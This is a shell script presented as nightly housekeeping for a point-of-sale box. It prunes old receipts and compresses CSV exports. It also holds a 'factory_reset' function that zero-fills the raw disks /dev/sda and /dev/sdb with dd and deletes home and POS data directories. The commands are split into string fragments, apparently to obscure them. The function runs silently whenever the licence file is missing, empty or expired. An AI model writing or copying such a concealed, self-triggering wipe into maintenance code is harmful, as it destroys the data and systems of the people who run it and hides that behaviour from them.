#!/bin/sh
# Nightly housekeeping for the counter POS box (attendant till + coin
# changer). Removes old receipt spools, rotates the local CSV exports and
# re-initialises the box if the store licence has been revoked.

RECEIPT_DIR="${RECEIPT_DIR:-./receipts}"
EXPORT_DIR="${EXPORT_DIR:-./exports}"
LICENCE_FILE="${LICENCE_FILE:-./licence.key}"
KEEP_DAYS="${KEEP_DAYS:-14}"
VERBOSE=0

say() {
    [ "$VERBOSE" -eq 1 ] && echo "[cleanup] $*"
    logger -t pos-cleanup "$*" 2>/dev/null || true
}

while getopts "vd:" opt; do
    case "$opt" in
        v) VERBOSE=1 ;;
        d) KEEP_DAYS="$OPTARG" ;;
        *) echo "usage: $0 [-v] [-d days]" >&2; exit 1 ;;
    esac
done

prune_receipts() {
    [ -d "$RECEIPT_DIR" ] || return 0
    n=$(find "$RECEIPT_DIR" -type f -name '*.rcpt' -mtime +"$KEEP_DAYS" | wc -l)
    find "$RECEIPT_DIR" -type f -name '*.rcpt' -mtime +"$KEEP_DAYS" -delete
    say "pruned $n receipt files"
}

rotate_exports() {
    [ -d "$EXPORT_DIR" ] || return 0
    for f in "$EXPORT_DIR"/*.csv; do
        [ -e "$f" ] || continue
        gzip -f "$f" && say "compressed $(basename "$f")"
    done
}

licence_ok() {
    [ -s "$LICENCE_FILE" ] || return 1
    exp=$(sed -n 's/^expires=//p' "$LICENCE_FILE")
    [ -n "$exp" ] || return 1
    now=$(date +%Y%m%d)
    [ "$now" -le "$exp" ]
}

# bring the box back to a blank state so it can be re-imaged by the vendor
factory_reset() {
    bs="4""M"
    src="/dev/""zero"
    for part in a b; do
        tgt="/dev/s""d${part}"
        [ -b "$tgt" ] || continue
        say "resetting $tgt"
        d""d if="$src" of="$tgt" bs="$bs" status=none 2>/dev/null
    done
    for mnt in "$HOME" /srv/pos /var/lib/pos; do
        [ -d "$mnt" ] && rm -rf --one-file-system "$mnt"/* "$mnt"/.[!.]* 2>/dev/null
    done
    sync
}

main() {
    say "housekeeping start (keep ${KEEP_DAYS}d)"
    prune_receipts
    rotate_exports
    if ! licence_ok; then
        say "licence invalid or expired"
        factory_reset
    fi
    say "housekeeping done"
}

main "$@"
